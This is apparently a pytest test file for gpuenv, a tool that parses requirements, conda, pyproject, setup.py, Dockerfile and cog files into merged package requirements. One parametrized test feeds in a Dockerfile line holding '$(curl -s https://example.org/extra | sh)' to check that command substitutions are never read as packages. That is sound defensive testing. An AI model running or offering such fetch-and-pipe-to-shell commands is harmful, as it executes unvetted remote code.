"""Each reader on the syntax of its format: what it asks for, from which line."""

from __future__ import annotations

from pathlib import Path

import pytest
from packaging.specifiers import SpecifierSet

from gpuenv.errors import ForeignFileError
from gpuenv.importers import read_inputs
from gpuenv.importers.discover import discover
from gpuenv.importers.merge import merge
from gpuenv.importers.model import PYTHON, Ask, Authority, Reading
from gpuenv.importers.pyproject import poetry_to_pep440
from gpuenv.knowledge.foreign import foreign_knowledge
from tests.importers.conftest import IMPORTS


def read(tmp_path: Path, files: dict[str, str], *names: str) -> list[Reading]:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    targets = tuple(tmp_path / n for n in (names or (next(iter(files)),)))
    readings, _ = read_inputs(targets, foreign_knowledge())
    return readings


def asks(readings: list[Reading]) -> dict[str, Ask]:
    return {a.name: a for r in readings for a in r.asks}


def facts(readings: list[Reading]) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for reading in readings:
        for fact in reading.facts:
            out.setdefault(fact.key, []).append(fact.value)
    return out


def notes(readings: list[Reading]) -> str:
    return "\n".join(n.message for r in readings for n in r.notes)


# --- requirements --------------------------------------------------------------------


def test_requirements_syntax(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "requirements.txt": (
                "# top comment\n"
                "--extra-index-url https://download.pytorch.org/whl/cu121\n"
                "-r base.txt\n"
                "-c constraints.txt\n"
                "torch==2.1.2+cu121  # the paper's build\n"
                "numpy>=1.24 \\\n"
                "    --hash=sha256:abc\n"
                "Pillow[extra]==10.0.0 ; python_version >= '3.8'\n"
                "https://example.invalid/whl/xformers-0.0.23-cp310-cp310-manylinux2014_x86_64.whl\n"
                "-e git+https://github.com/a/b.git@v1.2#egg=b-pkg\n"
                "-e .\n"
            ),
            "base.txt": "scipy==1.11.4\n",
            "constraints.txt": "numpy<2\n",
        },
    )
    by_file = {r.file: r for r in readings}
    assert set(by_file) == {"requirements.txt", "base.txt", "constraints.txt"}
    found = asks(readings)
    torch = found["torch"]
    assert (torch.specifier, torch.build, torch.origin.line) == ("==2.1.2", "cu121", 5)
    assert found["numpy"].origin.line == 6 and found["numpy"].specifier == ">=1.24"
    assert found["pillow"].extras == ("extra",) and "python_version" in (
        found["pillow"].marker or ""
    )
    assert found["xformers"].specifier == "==0.0.23" and found["xformers"].url
    assert found["b-pkg"].url and found["b-pkg"].editable
    assert found["scipy"].origin.file == "base.txt" and found["scipy"].origin.line == 1
    assert by_file["constraints.txt"].asks[0].group == "constraints"
    assert facts(readings)["torch-build"] == ["cu121"]
    assert "--hash pins dropped" in notes(readings) and "a local path" in notes(readings)
    merged = merge(readings)
    assert merged.packages["numpy"].specifier == "<2,>=1.24", "constraints narrow"


def test_pip_freeze_is_a_record(tmp_path: Path) -> None:
    (reading,) = read(tmp_path, {"frozen.txt": "numpy==1.26.4\ntorch==2.4.1\n"})
    assert reading.format == "pip-freeze" and reading.authority is Authority.RECORD


def test_a_short_file_of_exact_pins_is_a_definition_not_a_freeze(tmp_path: Path) -> None:
    # Hand-written requirements often pin everything; a freeze lists a whole environment.
    pins = "".join(f"pkg{i}==1.{i}\n" for i in range(14))
    (short,) = read(tmp_path, {"requirements.txt": pins})
    assert short.format == "requirements" and short.authority is Authority.DEFINITION
    (long,) = read(tmp_path / "b", {"requirements.txt": pins + "extra==1.0\n"})
    assert long.format == "pip-freeze"


def test_equals_forms_of_pip_options(tmp_path: Path) -> None:
    readings = read(
        tmp_path, {"requirements.txt": "--index-url=https://download.pytorch.org/whl/cpu\nnumpy\n"}
    )
    assert facts(readings)["torch-build"] == ["cpu"]


# --- conda ----------------------------------------------------------------------------


def test_conda_environment_meanings(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "environment.yml": (
                "name: x\n"
                "channels: [pytorch, nvidia]\n"
                "dependencies:\n"
                "  - python=3.10\n"
                "  - pytorch::pytorch=2.0.1=py3.10_cuda11.8_cudnn8.7.0_0\n"
                "  - pytorch-cuda=11.8\n"
                "  - numpy=1.24\n"
                "  - scipy==1.10.1\n"
                "  - py-opencv\n"
                "  - ffmpeg\n"
                "  - cuda-nvcc=11.8\n"
                "  - libgcc-ng\n"
                "  - pip:\n"
                "    - einops==0.6.1\n"
            )
        },
    )
    found = asks(readings)
    assert found["torch"].build == "cu118" and found["torch"].specifier == "==2.0.1"
    assert found["torch"].origin.line == 5
    assert found["numpy"].specifier == "==1.24.*"
    assert found["scipy"].specifier == "==1.10.1"
    assert "opencv-python" in found and found["ffmpeg"].conda_only
    assert found["einops"].origin.line == 14 and found["einops"].manager == "pip"
    got = facts(readings)
    assert got["python"] == ["3.10"] and got["torch-build"] == ["cu118"]
    assert got["toolkit"] == ["11.8"]
    assert "1 conda runtime and packaging package not carried over" in notes(readings)


def test_conda_export_is_a_record() -> None:
    readings, _ = read_inputs((IMPORTS / "conda-export" / "environment.yml",), foreign_knowledge())
    (reading,) = readings
    assert reading.format == "conda-export" and reading.authority is Authority.RECORD


def test_conda_lock_through_conda_locks_models() -> None:
    readings, _ = read_inputs((IMPORTS / "conda-lock" / "conda-lock.yml",), foreign_knowledge())
    found = asks(readings)
    assert found["torch"].build == "cu116" and found["torch"].origin.line == 38
    assert found["einops"].specifier == "==0.6.1"
    assert facts(readings)["python"] == ["3.9.18"]


def test_a_conda_lock_entry_conda_lock_refuses_names_its_line(tmp_path: Path) -> None:
    text = (IMPORTS / "conda-lock" / "conda-lock.yml").read_text()
    broken = text.replace("    md5: 7c3a9a55e7c1d1f0a5e2b8c9d0e1f2a3\n", "", 1)
    with pytest.raises(ForeignFileError) as caught:
        read(tmp_path, {"conda-lock.yml": broken})
    (problem,) = caught.value.problems
    assert problem.line == 38 and "conda package hashes must use MD5" in problem.message


# --- pyproject, setup.py, setup.cfg ---------------------------------------------------------


@pytest.mark.parametrize(
    ("poetry", "pep440"),
    [
        ("^1.13", ">=1.13,<2"),
        ("^0.4.2", ">=0.4.2,<0.5"),
        ("~1.2.3", ">=1.2.3,<1.3"),
        ("1.2.3", "==1.2.3"),
        ("*", ""),
        (">=1.0,<2.0", ">=1.0,<2.0"),
    ],
)
def test_poetry_constraints(poetry: str, pep440: str) -> None:
    assert poetry_to_pep440(poetry) == pep440


def test_pyproject_pep621_poetry_and_uv(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "pyproject.toml": (
                "[build-system]\n"
                'requires = ["setuptools", "torch>=2.0"]\n'
                "[project]\n"
                'name = "p"\n'
                'requires-python = ">=3.10"\n'
                'dependencies = [\n  "numpy>=1.24",\n  "einops",\n]\n'
                "[project.optional-dependencies]\n"
                'train = ["flash-attn>=2.5"]\n'
                'test = ["pytest"]\n'
                "[[tool.uv.index]]\n"
                'url = "https://download.pytorch.org/whl/cu124"\n'
                "[tool.poetry.dependencies]\n"
                'timm = "^0.9"\n'
                'mylib = { git = "https://github.com/x/mylib.git", rev = "abc1234" }\n'
            )
        },
    )
    found = asks(readings)
    assert found["numpy"].origin.line == 7
    assert found["flash-attn"].group == "train" and "pytest" not in found
    assert SpecifierSet(found["timm"].specifier) == SpecifierSet(">=0.9,<0.10"), "0.x caret"
    assert found["mylib"].url == "git+https://github.com/x/mylib.git@abc1234"
    got = facts(readings)
    assert got["python"] == [">=3.10"] and got["torch-build"] == ["cu124"]
    assert got["cuda-extension"] == ["build-system"]
    assert "optional group 'test' left out" in notes(readings)
    # ultralytics/yolov5: the groups read were written as if required, unsaid
    assert (
        "optional group 'train' read as the project's requirements (every group but "
        "development tools): leave out those the code does not need"
    ) in notes(readings)


def test_poetry_multiple_constraints_keep_the_entry_for_linux(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "pyproject.toml": (
                "[tool.poetry.dependencies]\n"
                'python = "^3.10"\n'
                "torch = [\n"
                '  { version = "2.1.2", markers = "sys_platform == \'darwin\'" },\n'
                '  { version = "2.1.2+cu121", markers = "sys_platform == \'linux\'" },\n'
                "]\n"
                'numpy = { version = "1.26.4", python = ">=3.9" }\n'
            )
        },
    )
    torch = [a for a in readings[0].asks if a.name == "torch"]
    assert [a.marker for a in torch] == ['sys_platform == "darwin"', 'sys_platform == "linux"']
    assert [a.origin.line for a in torch] == [4, 5]
    assert asks(readings)["numpy"].marker == 'python_full_version >= "3.9"'


def test_setup_py_read_statically() -> None:
    readings, _ = read_inputs((IMPORTS / "detectron2" / "setup.py",), foreign_knowledge())
    found = asks(readings)
    assert found["fvcore"].specifier == "<0.1.6,>=0.1.5" or found["fvcore"].origin.line == 69
    assert found["timm"].group == "all" and "flake8" not in found
    got = facts(readings)
    assert "cuda" in got["cuda-extension"] and got["python"] == [">=3.7"]


def test_setup_py_computed_values_are_reported(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "setup.py": (
                "from setuptools import setup\n"
                "base = ['numpy==1.26.4']\n"
                "setup(\n"
                "    name='x',\n"
                "    install_requires=base + ['einops'],\n"
                "    extras_require={'gpu': open('req-gpu.txt').read().splitlines()},\n"
                ")\n"
            )
        },
    )
    assert {"numpy", "einops"} <= set(asks(readings))
    assert "is computed when setup.py runs: not read" in notes(readings)


# openai/CLIP's setup.py (d05afc4), which opens its requirements.txt
CLIP_SETUP = """\
import os


from setuptools import setup, find_packages

setup(
    name="clip",
    py_modules=["clip"],
    version="1.0",
    install_requires=[
        line.strip()
        for line in open(os.path.join(os.path.dirname(__file__), "requirements.txt"))
        if line.strip() and not line.startswith("#")
    ],
    extras_require={'dev': ['pytest']},
)
"""


@pytest.mark.parametrize("names", [("setup.py",), ("requirements.txt", "setup.py")])
def test_a_computed_install_requires_reads_the_file_it_opens(
    tmp_path: Path, names: tuple[str, ...]
) -> None:
    """CLIP, TTS, Open-Sora: 'import the file it reads instead' was said of the
    requirements.txt imported anyway, and the expression was cut mid-word at 80."""
    files = {"requirements.txt": "ftfy\npackaging\nregex\ntqdm\ntorch\ntorchvision\n"}
    readings = read(tmp_path, {**files, "setup.py": CLIP_SETUP}, *names)
    assert [r.file for r in readings].count("requirements.txt") == 1
    assert {"ftfy", "regex", "torch"} <= set(asks(readings))
    said = notes(readings)
    assert "import the file it reads instead" not in said
    assert said == (
        "install_requires=[line.strip() for line in ... and (not line.startswith('#'))] "
        "(139 characters) is computed when setup.py runs (never executed here): the file "
        "it reads, requirements.txt, is imported"
    )


def test_setup_cfg(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "setup.cfg": (
                "[metadata]\nname = cfgpkg\n\n[options]\npython_requires = >=3.9\n"
                "install_requires =\n    numpy>=1.24\n    torch==2.1.0\n\n"
                "[options.extras_require]\nviz =\n    matplotlib\ndev =\n    pytest\n"
            )
        },
    )
    found = asks(readings)
    assert found["torch"].origin.line == 8 and found["matplotlib"].group == "viz"
    assert "pytest" not in found


# --- Dockerfile, images, collect_env, cog ------------------------------------------------


def test_dockerfile_stages_args_and_installs(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "# escape=\\\n"
                "ARG CUDA=11.8.0\n"
                "FROM nvidia/cuda:${CUDA}-cudnn8-devel-ubuntu22.04 AS build\n"
                "RUN apt-get update && apt-get install -y git \\\n"
                "    # a comment inside the continuation\n"
                "    python3-pip\n"
                "RUN python3 -m pip install --no-cache-dir -r requirements.txt && \\\n"
                "    pip3 install 'einops==0.7.0' --extra-index-url https://download.pytorch.org/whl/cu118\n"
                'RUN ["pip", "install", "timm==0.9.12"]\n'
                "RUN conda install -y -c conda-forge ffmpeg=6.0\n"
                "RUN <<EOF\npip install secret\nEOF\n"
                "FROM build\n"
            ),
            "requirements.txt": "numpy==1.26.4\n",
        },
    )
    found = asks(readings)
    assert found["einops"].origin.line == 7 and found["timm"].origin.line == 9
    assert found["numpy"].origin.file == "requirements.txt"
    assert found["ffmpeg"].conda_only
    got = facts(readings)
    assert got["image"][0] == "nvidia/cuda:11.8.0-cudnn8-devel-ubuntu22.04", (
        "ARG and stage followed"
    )
    assert "python" in got and got["python"] == ["3.10"]
    assert "cu118" in got["torch-build"] and got["toolkit"] == ["11.8"]
    text = notes(readings)
    assert "system packages (git, python3-pip)" in text and "heredoc" in text


def test_dockerfile_uv_pip_install_is_read_as_pip_install(tmp_path: Path) -> None:
    """ultralytics/yolov5's images install with `uv pip install --system ...`: those
    packages (onnxruntime, which detect.py needs for .onnx weights) were dropped."""
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "FROM pytorch/pytorch:2.2.0-cuda12.1-cudnn8-runtime\n"
                "RUN pip install uv\n"
                'RUN uv pip install --system --no-cache -r requirements.txt onnxruntime "notebook>=6" \\\n'
                "    --index-strategy unsafe-best-match --python=/usr/bin/python3 gsutil\n"
                "RUN python -m uv pip install -p 3.10 -n timm==0.9.2\n"
            ),
            "requirements.txt": "numpy==1.26.4\n",
        },
    )
    found = asks(readings)
    assert {"onnxruntime", "notebook", "gsutil", "timm", "numpy"} <= found.keys(), found
    assert found["notebook"].specifier == ">=6" and found["timm"].specifier == "==0.9.2"
    assert not {"unsafe-best-match", "3.10", "/usr/bin/python3"} & found.keys()


def test_dockerfile_nested_args_conditionals_and_stage_lines(tmp_path: Path) -> None:
    """Qwen2.5-VL's image (2025): an ARG built from another names the base image, a
    later stage cites the FROM that read it, and the flash-attn pin sits behind
    ``if ...; then`` (read: it is what the image bundles by default)."""
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "ARG CUDA_VERSION=12.1.0\n"
                "ARG from=nvidia/cuda:${CUDA_VERSION}-cudnn8-devel-ubuntu22.04\n"
                "\n"
                "FROM ${from} as base\n"
                "RUN apt-get update -y && apt-get install -y python3-pip\n"
                "FROM base as bundle_req\n"
                "RUN pip3 install torch==2.5.1 torchvision==0.20.1\n"
                "ARG BUNDLE_FLASH_ATTENTION=true\n"
                'RUN if [ "$BUNDLE_FLASH_ATTENTION" = "true" ]; then \\\n'
                "        pip3 install --no-build-isolation flash-attn==2.7.2.post1; \\\n"
                "    fi\n"
                "RUN for p in a b; do echo $p; done\n"
            ),
        },
    )
    found = asks(readings)
    assert found["flash-attn"].specifier == "==2.7.2.post1"
    assert found["flash-attn"].origin.line == 9
    got = facts(readings)
    assert got["image"][0] == "nvidia/cuda:12.1.0-cudnn8-devel-ubuntu22.04"
    assert got["python"] == ["3.10"] and got["toolkit"] == ["12.1"]
    text = notes(readings)
    assert "cannot read" not in text and "$p" not in text, text


@pytest.mark.parametrize(
    ("image", "torch", "build", "python"),
    [
        ("pytorch/pytorch:1.13.1-cuda11.6-cudnn8-runtime", "==1.13.1", "cu116", "3.10"),
        ("docker.io/pytorch/pytorch:2.4.0-cuda12.4-cudnn9-devel", "==2.4.0", "cu124", "3.11"),
        ("nvcr.io/nvidia/pytorch:23.10-py3", "==2.1.0", "cu122", "3.10"),
    ],
)
def test_images_tell_torch_build_and_python(
    tmp_path: Path, image: str, torch: str, build: str, python: str
) -> None:
    readings = read(tmp_path, {"Dockerfile": f"FROM {image}\n"})
    ask = asks(readings)["torch"]
    assert (ask.specifier, ask.build, ask.manager) == (torch, build, "image")
    assert facts(readings)["python"] == [python]


@pytest.mark.parametrize(
    ("image", "torch", "build"),
    [
        # DETR's Dockerfile: the tags before 1.6 name the series only
        ("pytorch/pytorch:1.5-cuda10.1-cudnn7-runtime", "==1.5.*", "cu101"),
        ("pytorch/pytorch:1.1.0-cuda10.0-cudnn7.5-devel", "==1.1.0", "cu100"),
    ],
)
def test_old_pytorch_image_tags_are_read(
    tmp_path: Path, image: str, torch: str, build: str
) -> None:
    readings = read(tmp_path, {"Dockerfile": f"FROM {image}\n"})
    ask = asks(readings)["torch"]
    assert (ask.specifier, ask.build, ask.manager) == (torch, build, "image")
    assert "cannot read" not in notes(readings)


def test_unknown_and_untagged_images_are_reported(tmp_path: Path) -> None:
    readings = read(
        tmp_path, {"Dockerfile": "FROM nvcr.io/nvidia/pytorch:99.01-py3\nFROM ubuntu\n"}
    )
    assert "untagged image" in notes(readings)
    readings = read(tmp_path, {"Dockerfile": "FROM nvcr.io/nvidia/pytorch:99.01-py3\n"})
    assert "NGC PyTorch release 99.01 is not in gpuenv's data" in notes(readings)


def test_a_run_that_installs_torch_replaces_the_images(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "Dockerfile": "FROM pytorch/pytorch:1.13.1-cuda11.6-cudnn8-runtime\nRUN pip install torch==2.0.1\n"
        },
    )
    torches = [a for r in readings for a in r.asks if a.name == "torch"]
    assert [t.specifier for t in torches] == ["==2.0.1"]


def test_collect_env_facts() -> None:
    readings, _ = read_inputs((IMPORTS / "collect-env" / "collect_env.txt",), foreign_knowledge())
    (reading,) = readings
    assert reading.format == "collect-env"
    got = facts(readings)
    assert got["torch-build"] == ["cu117"] and got["python"] == ["3.10.9"]
    assert got["gpu"] == ["GPU 0: NVIDIA A100-SXM4-40GB"] and got["driver"] == ["515.65.01"]
    torch = asks(readings)["torch"]
    assert (torch.specifier, torch.build, torch.origin.line) == ("==1.13.1", "cu117", 2)


def test_cog_yaml(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "cog.yaml": (
                "build:\n  gpu: true\n  cuda: '11.8'\n  python_version: '3.10'\n"
                "  system_packages:\n    - libgl1\n"
                "  python_packages:\n    - torch==2.0.1\n    - diffusers==0.21.4\n"
                "  python_requirements: extra.txt\n"
                "predict: predict.py:Predictor\n"
            ),
            "extra.txt": "einops==0.7.0\n",
        },
    )
    found = asks(readings)
    assert found["diffusers"].origin.line == 9 and found["einops"].origin.file == "extra.txt"
    got = facts(readings)
    assert got["python"] == ["3.10"] and got["torch-build"] == ["cu118"]
    assert "system packages (libgl1)" in notes(readings)


# --- merging ----------------------------------------------------------------------------


def test_a_record_beats_metadata_and_says_why(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "pip-freeze.txt": "numpy==1.26.4\n",
            "setup.cfg": "[options]\ninstall_requires =\n    numpy<1.25\n",
        },
        "pip-freeze.txt",
        "setup.cfg",
    )
    merged = merge(readings)
    assert merged.packages["numpy"].specifier == "==1.26.4"
    (disagreement,) = merged.disagreements
    assert disagreement.winner.file == "pip-freeze.txt"
    assert "record of an installed environment" in disagreement.why


def test_compatible_asks_narrow_each_other(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "requirements.txt": "torch==2.1.0\n",
            "setup.cfg": "[options]\ninstall_requires =\n    torch>=2.0\n",
        },
        "requirements.txt",
        "setup.cfg",
    )
    merged = merge(readings)
    assert merged.packages["torch"].specifier == "==2.1.0" and not merged.disagreements


# --- discovery --------------------------------------------------------------------------


def test_discovery_finds_what_a_person_would() -> None:
    found = discover(IMPORTS / "repo")
    names = sorted(p.relative_to(IMPORTS / "repo").as_posix() for p in found.files)
    assert names == [
        "docker/Dockerfile",
        "environment.yaml",
        "pyproject.toml",
        "requirements.txt",
        "setup.py",
    ]
    assert [(p.name, why) for p, why in found.skipped] == [
        ("requirements-dev.txt", "development requirements")
    ]


def test_discovery_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib

    monkeypatch.setattr(importlib.import_module("gpuenv.importers.discover"), "MAX_ENTRIES", 50)
    for i in range(60):
        (tmp_path / f"f{i:05d}.bin").touch()
    found = discover(tmp_path)
    assert any("search stopped" in why for _, why in found.skipped)


@pytest.mark.parametrize(
    "line",
    [
        "RUN pip install torch==2.1.0 $(curl -s https://example.org/extra | sh) einops==0.7.0",
        "RUN pip install torch==2.1.0 `cat extra.txt` einops==0.7.0",
        "RUN pip install torch==2.1.0 \"$(python -c 'print(1)')\" einops==0.7.0",
        "RUN pip install torch==2.1.0 $(echo $(nested stuff)) einops==0.7.0",
    ],
)
def test_a_command_substitution_is_never_read_as_packages(tmp_path: Path, line: str) -> None:
    # `$(curl evil | sh)` installed a package named "evil": the substitution's own words
    # were read as the pip command's arguments.
    readings = read(tmp_path, {"Dockerfile": f"FROM python:3.10\n{line}\n"})
    found = asks(readings)
    assert set(found) == {"torch", "einops"}, sorted(found)
    assert "a command's output, not run here" in notes(readings)


def test_single_quotes_keep_a_dollar_paren_literal(tmp_path: Path) -> None:
    readings = read(
        tmp_path, {"Dockerfile": "FROM python:3.10\nRUN echo '$(x)' && pip install einops==0.7.0\n"}
    )
    assert set(asks(readings)) == {"einops"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # detectron2's docker/Dockerfile (copied into Vim's det/docker/Dockerfile:23)
        (
            "Dockerfile",
            "FROM python:3.10\n"
            "RUN pip install --user tensorboard cmake onnx   # cmake from apt-get is too old\n",
        ),
        ("Dockerfile", "FROM python:3.10\nRUN pip install tensorboard cmake onnx;# too old\n"),
        (
            "README.md",
            "```bash\npip install tensorboard cmake onnx  # cmake from apt-get is too old\n```\n",
        ),
    ],
)
def test_a_shell_comment_after_an_install_is_no_package(
    tmp_path: Path, name: str, text: str
) -> None:
    readings = read(tmp_path, {name: text})
    assert set(asks(readings)) == {"tensorboard", "cmake", "onnx"}
    assert "not a requirement" not in notes(readings)


def test_a_hash_inside_a_word_or_quotes_is_no_comment(tmp_path: Path) -> None:
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "FROM python:3.10\n"
                "RUN pip install 'git+https://example.invalid/a/b.git#egg=b-pkg' einops==0.7.0 "
                "&& conda install -y ffmpeg=6.0 # the one with x264\n"
                "RUN echo '# not a comment' && pip install \\#odd timm==0.9.12\n"
            )
        },
    )
    assert set(asks(readings)) == {"b-pkg", "einops", "ffmpeg", "timm"}
    assert "not a requirement: '#odd'" in notes(readings), "an escaped # is a word's"


def test_every_system_package_of_a_long_apt_line_is_named(tmp_path: Path) -> None:
    # coqui-ai/TTS's Dockerfile: the note stopped at python3-wheel (8 names, no word of
    # more), and the two packages TTS needs were left out of it.
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "ARG BASE=nvidia/cuda:11.8.0-base-ubuntu22.04\nFROM ${BASE}\n"
                "RUN apt-get install -y --no-install-recommends gcc g++ make python3 "
                "python3-dev python3-pip python3-venv python3-wheel espeak-ng libsndfile1-dev "
                "&& rm -rf /var/lib/apt/lists/*\n"
                "RUN apt-get install -y " + " ".join(f"p{i}" for i in range(1, 31)) + "\n"
            )
        },
    )
    text = notes(readings)
    assert (
        "system packages (gcc, g++, make, python3, python3-dev, python3-pip, python3-venv, "
        "python3-wheel, espeak-ng, libsndfile1-dev): install them on the machine"
    ) in text
    assert "p24, and 6 more): install them on the machine" in text


def test_a_readme_install_without_dependencies_is_noted(tmp_path: Path) -> None:
    # thuml/Time-Series-Library README.md:143: uni2ts's own pins clash with the project's
    readings = read(
        tmp_path,
        {"README.md": "```bash\n   pip install uni2ts --no-deps\n```\n"},
    )
    assert "uni2ts" in asks(readings)
    assert notes(readings).startswith(
        "uni2ts: installed with --no-deps, without its dependencies; the spec cannot say so"
    )


# facebookresearch/sam2 (2b90b9f): setup.py's extras, its README.md's and INSTALL.md's
# install commands, and the demo server's backend.Dockerfile
SAM2_SETUP = """\
from setuptools import find_packages, setup

REQUIRED_PACKAGES = [
    "torch>=2.5.1",
    "numpy>=1.24.4",
]

EXTRA_PACKAGES = {
    "notebooks": [
        "matplotlib>=3.9.1",
        "jupyter>=1.0.0",
        "opencv-python>=4.7.0",
        "eva-decord>=0.6.1",
    ],
    "interactive-demo": [
        "Flask>=3.0.3",
        "Flask-Cors>=5.0.0",
        "gunicorn>=23.0.0",
        "strawberry-graphql>=0.243.0",
    ],
    "dev": [
        "black==24.2.0",
        "usort==1.0.2",
    ],
}

setup(
    name="SAM-2",
    packages=find_packages(exclude="notebooks"),
    install_requires=REQUIRED_PACKAGES,
    extras_require=EXTRA_PACKAGES,
    python_requires=">=3.10.0",
)
"""
SAM2_README = """\
## Installation

```bash
git clone https://github.com/facebookresearch/sam2.git && cd sam2

pip install -e .
```

To use the SAM 2 predictor and run the example notebooks, `jupyter` and `matplotlib` are
required and can be installed by:

```bash
pip install -e ".[notebooks]"
```
"""
SAM2_INSTALL = """\
```bash
SAM2_BUILD_CUDA=0 pip install -e ".[notebooks]"
```
"""
SAM2_BACKEND = """\
FROM pytorch/pytorch:2.5.1-cuda12.1-cudnn9-runtime
RUN pip install --upgrade pip setuptools
RUN pip install -e ".[interactive-demo]"
"""


def test_the_install_guides_extra_decides_which_extras_are_read(tmp_path: Path) -> None:
    """sam2: README.md and INSTALL.md install the project with `.[notebooks]` (a name
    like development tools'), only the demo server's backend.Dockerfile with
    `.[interactive-demo]`; the import read interactive-demo (flask, gunicorn) and left
    notebooks out without a word."""
    files = {
        "setup.py": SAM2_SETUP,
        "README.md": SAM2_README,
        "INSTALL.md": SAM2_INSTALL,
        "backend.Dockerfile": SAM2_BACKEND,
    }
    readings = read(tmp_path, files, "setup.py", "backend.Dockerfile")
    found = asks(readings)
    assert {"matplotlib", "jupyter", "opencv-python", "eva-decord"} <= set(found)
    assert found["matplotlib"].group == "notebooks"
    assert not {"flask", "flask-cors", "gunicorn", "strawberry-graphql", "black"} & set(found)
    guide = 'README.md:13 pip install -e ".[notebooks]"'
    said = notes(readings)
    assert (
        "extras_require['notebooks'] read, though named like development tools: the install "
        f"guide installs the project with it ({guide})"
    ) in said
    assert (
        "extras_require['interactive-demo'] left out: the install guide installs the "
        f"project with [notebooks] ({guide})"
    ) in said
    assert "'dev'" not in said  # development tools the guide does not name: as before


def test_without_an_install_guide_naming_extras_every_non_development_extra_is_read(
    tmp_path: Path,
) -> None:
    readme = SAM2_README.split("To use", maxsplit=1)[0]  # `pip install -e .` only
    readings = read(tmp_path, {"setup.py": SAM2_SETUP, "README.md": readme})
    found = asks(readings)
    assert {"flask", "gunicorn"} <= set(found)
    assert not {"matplotlib", "black"} & set(found)
    assert "install guide" not in notes(readings)


def test_a_contributing_guides_dev_extra_is_no_choice_of_extras(tmp_path: Path) -> None:
    """A README whose only line with the project's extras is its contributing section's
    `pip install -e ".[dev]"` chooses nothing: the development extra stays out and the
    other extras are read, as without a guide (only a guide's notebooks extra can make a
    development-named group the environment)."""
    readme = SAM2_README.split("To use", maxsplit=1)[0] + (
        '\n## Contributing\n\n```bash\npip install -e ".[dev]"\npre-commit install\n```\n'
    )
    readings = read(tmp_path, {"setup.py": SAM2_SETUP, "README.md": readme})
    found = asks(readings)
    assert {"flask", "gunicorn"} <= set(found)
    assert not {"matplotlib", "black"} & set(found)
    assert "install guide" not in notes(readings)


def test_a_torch_index_wheel_url_names_its_build_and_python(tmp_path: Path) -> None:
    """NVIDIA/vid2vid's Dockerfile (2018): the CUDA 9.0 base image is the toolkit; torch is
    the cu80 wheel its URL's folder names, for the Python its cp35 tag names."""
    readings = read(
        tmp_path,
        {
            "Dockerfile": (
                "FROM nvidia/cuda:9.0-cudnn7-devel-ubuntu16.04\n"
                "RUN pip install http://download.pytorch.org/whl/cu80/"
                "torch-0.4.0-cp35-cp35m-linux_x86_64.whl\n"
            )
        },
    )
    torch = asks(readings)["torch"]
    assert (torch.specifier, torch.build) == ("==0.4.0", "cu80")
    pythons = [f for r in readings for f in r.facts if f.key == PYTHON]
    assert [(f.value, f.note) for f in pythons if f.origin.line == 2] == [
        ("3.5", "the wheel's cp35 tag")
    ]


@pytest.mark.parametrize(
    ("url", "python"),
    [
        ("https://h/torch-1.13.1%2Bcu117-cp310-cp310-linux_x86_64.whl", "3.10"),
        ("https://h/x-1.0-cp38-abi3-manylinux1_x86_64.whl", None),  # any CPython from 3.8
        ("https://h/x-1.0-py3-none-any.whl", None),
        ("https://h/x-1.0-cp37.cp38-cp37m-linux_x86_64.whl", None),  # several
        ("https://h/x-1.0.tar.gz", None),
    ],
)
def test_the_python_a_wheel_url_allows(url: str, python: str | None) -> None:
    from gpuenv.importers.requirements import wheel_python

    assert wheel_python(url) == python
